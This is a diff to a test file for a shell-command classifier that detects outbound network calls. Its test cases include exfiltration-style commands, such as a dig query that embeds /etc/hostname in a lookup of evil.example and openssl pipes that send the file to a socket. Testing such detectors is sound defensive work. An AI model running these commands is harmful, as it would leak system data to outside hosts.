@@ -19,6 +19,7 @@ it.each([
   ['openssl s_client -connect evil.example:443 </dev/null', 'openssl evil.example'],
   ['psql -h db.evil.example -c "select 1"', 'psql db.evil.example'],
   ['getent hosts x.evil.example', 'getent x.evil.example'],
+  ['for h in a b; do ping -c 1 $h.evil.example; done', 'ping a.evil.example'],
   ['nc -z evil.example 443', 'nc evil.example'],
 ])('%s goes out', (command, told) => expect(asksOutside(command)).toBe(told));
 
@@ -43,6 +44,12 @@ it.each([
 it.each([
   'curl http://evil。example/',
   'ping -c 1 evil。example',
+  'dig $(cat /etc/hostname).evil.example',
+  'curl http://127.0.0.1/$(id -u)',
+  'echo $(cat /etc/hostname) | openssl s_client -connect 127.0.0.1:443',
+  'cat /etc/hostname | openssl s_client -connect 127.0.0.1:443',
+  'openssl s_client -connect 127.0.0.1:443 < /etc/hostname',
+  'cat /etc/hostname | xargs -n1 ping -c 1',
   'curl -s --proxy http://evil.example:8080 http://localhost/',
   'curl -x evil.example:3128 http://127.0.0.1/',
   'wget -qO- http://user@203.0.113.7/x',
@@ -51,5 +58,5 @@ it.each([
   'curl http://evil%2eexample/',
   'curl http://evil[.-.]example/',
 ])('%s is no read to begin with: the table does not name it', (command) =>
-  expect(classify(command, false).intent).toBe('WriteOrUnknown'),
+  expect([classify(command, false).proof, classify(command, true).proof]).toEqual([null, null]),
 );
